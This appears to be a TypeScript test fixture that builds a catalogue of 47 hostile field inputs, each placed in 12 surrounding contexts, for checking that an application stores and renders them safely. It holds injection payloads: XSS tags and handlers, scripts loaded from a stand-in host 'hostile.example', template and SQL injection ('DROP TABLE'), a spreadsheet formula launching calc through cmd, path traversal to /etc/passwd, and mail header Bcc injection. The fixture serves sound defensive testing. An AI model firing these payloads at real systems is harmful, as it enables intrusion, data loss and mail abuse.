/**
 * What somebody may put into a field: 47 attacks, each in 12 surroundings. Those that can run set `window.__hostile`,
 * open a dialog, or ask a server that is not ours for something.
 */
export interface HostileText {
  /** Which attack, in which surroundings. */
  name: string;
  /** By which it is found again: in no other text, three letters and digits. */
  mark: string;
  text: string;
}

const run = 'window.__hostile=1';
const foreign = 'hostile.example';

/** The attacks: by name, none longer than a name may be. */
export const payloads: readonly (readonly [name: string, text: string])[] = [
  // What would run.
  ['a script', `<script>${run}</script>`],
  ['a script from elsewhere', `<script src=//${foreign}/x.js></script>`],
  ['a picture that errs', `<img src=x onerror=${run}>`],
  ['an SVG that loads', `<svg/onload=${run}>`],
  ['an SVG animation', `<svg><animate onbegin=${run} attributeName=x>`],
  ['a frame', `<iframe srcdoc="<script>parent.${run.slice(7)}</script>">`],
  ['an event handler that leaves its attribute', `" autofocus onfocus=${run} x="`],
  ['the same in single quotes', `' onmouseover='${run}' x='`],
  ['details that open', `<details open ontoggle=${run}>`],
  ['an address that is a script', `javascript:${run}`],
  ['an address that is a page', `data:text/html,<script>alert(1)</script>`],
  ['the end of our own script', `</script><script>${run}</script>`],
  ['the end of a title and a text field', `</title></textarea><img src=x onerror=${run}>`],
  ['mXSS', `<svg></p><style><a id="</style><img src=1 onerror=${run}>">`],
  ['another base and a refresh', `<base href=//${foreign}/><meta http-equiv=refresh content=0>`],
  ['a style sheet', `<style>*{display:none}@import '//${foreign}/x.css'</style>`],
  ['a style that covers the page', `<p style="position:fixed;inset:0;background:red">`],
  // What templates and other languages would read.
  ['a template of braces', `{{constructor.constructor('${run}')()}}`],
  // biome-ignore lint/suspicious/noTemplateCurlyInString: it is meant to look like one
  ['a template of dollars', '${window.__hostile=1}#{7*7}<%= 7*7 %>'],
  ['our own variables', '{{organizationName}}{name}{count}%s%d{{unsubscribeUrl}}'],
  ['replacement patterns', "$& $1 $` $' $$ $<name>"],
  ['SQL', `'; DROP TABLE organization; -- "`],
  ['a pattern of SQL', `100% _\\_ %' OR '1'='1`],
  ['a formula', `=HYPERLINK("http://${foreign}","x")`],
  ['a formula that runs', `+cmd|' /C calc'!A0`],
  ['JSON', `{"__proto__":{"admin":true},"a":[null]}`],
  ['a prototype', '__proto__ constructor toString'],
  ['null-like words', 'null undefined NaN true 0 -1 [object Object]'],
  ['a path', '../../../../etc/passwd%00 ..\\..\\con'],
  ['Markdown', `[x](javascript:alert(1)) ![x](//${foreign}/a.png) **x** \`x\``],
  ['HTML entities', '&lt;script&gt;alert(1)&lt;/script&gt; &amp;amp; &#x3C;'],
  ['quotes and backticks', '"\'`´‘’“”«»‹›'],
  ['percent signs', '%3Cscript%3Ealert(1)%3C/script%3E%0d%0a'],
  // What mails would take for a header.
  ['a line break', `x\r\nBcc: everybody@${foreign}\r\n\r\nx`],
  ['line ends of other alphabets', 'x\u2028x\u2029x\u0085x\u000bx'],
  // What fonts and layout have trouble with.
  ['a very long word', 'W'.repeat(110)],
  ['a long word that could break nowhere', '_'.repeat(60) + '.'.repeat(50)],
  ['overridden direction', '\u202eevil\u202d txt.exe'],
  ['isolates that do not end', '\u2067\u2066\u2068 left \u2067 open'],
  ['Arabic and Hebrew', 'שלום עולם (مرحبا بالعالم) 123!'],
  ['a tower of marks', `Z${'\u0310\u0321\u0334\u0356\u0489'.repeat(12)}algo`],
  ['nothing to be seen', 'a\u200b\u200c\u200d\u2060\ufeff\u00ad\u180eb'],
  ['emoji of many parts', '👩‍👩‍👧‍👦🏳️‍🌈👩🏽‍💻🇮🇩1️⃣🫱🏻‍🫲🏿'],
  ['letters of four bytes', '𝕳𝖔𝖘𝖙𝖎𝖑𝖊 𠮷野家 𓀀𓂀'],
  ['wide letters', '﷽﷽﷽ ꧅꧅꧅ ⸻⸻⸻'],
  ['letters that look alike', 'раураӏ ІІІ Ａｄｍｉｎ ɑ'],
  // What no column can hold: it is refused, with a sentence.
  ['NUL and half a character', 'x\u0000y\ud800z'],
];

/** The last attack: what must be refused. */
export const unwritable = ({ text }: Pick<HostileText, 'text'>): boolean =>
  text.includes('\0') || !text.isWellFormed();

const platform: readonly (readonly [name: string, around: (mark: string, text: string) => string])[] = [
  ['after a word', (mark, text) => `${mark} ${text}`],
  ['before a word', (mark, text) => `${text} ${mark}`],
  ['glued to a word', (mark, text) => `${mark}${text}${mark}`],
  ['in double quotes', (mark, text) => `"${text}" ${mark}`],
  ['in single quotes', (mark, text) => `'${text}' ${mark}`],
  ['in a tag', (mark, text) => `<b>${mark} ${text}</b>`],
  ['out of an attribute', (mark, text) => `">${text}<a x="${mark}`],
  ['out of a comment', (mark, text) => `-->${text}<!--${mark}`],
  ['in braces', (mark, text) => `{{${text}}} ${mark}`],
  ['after a blank and a tab', (mark, text) => `${mark} \t ${text}`],
  ['twice', (mark, text) => `${text}${mark}${text}`],
  ['among other alphabets', (mark, text) => `漢字 ${text} ${mark} Ünï`],
];

/** All of them, the attacks of one surrounding beside each other: the first 47 are each attack once. */
export const hostileTexts: readonly HostileText[] = platform.flatMap(([where, around], surrounding) =>
  payloads.map(([what, text], payload) => {
    const mark = `k${String(surrounding * payloads.length + payload).padStart(3, '0')}`;
    return { name: `${what}, ${where}`, mark, text: around(mark, text) };
  }),
);

/** Those of them that a field can hold. */
export const writable = hostileTexts.filter((one) => !unwritable(one));

/** The attacks, each once and short: for fields that hold a word or two. */
export const hostileWords = writable.slice(0, payloads.length - 1);

/**
 * What becomes of a text on its way into a field, and nothing else does: blanks around it go (docs/decisions/024).
 */
export const asStored = (text: string): string => text.trim();
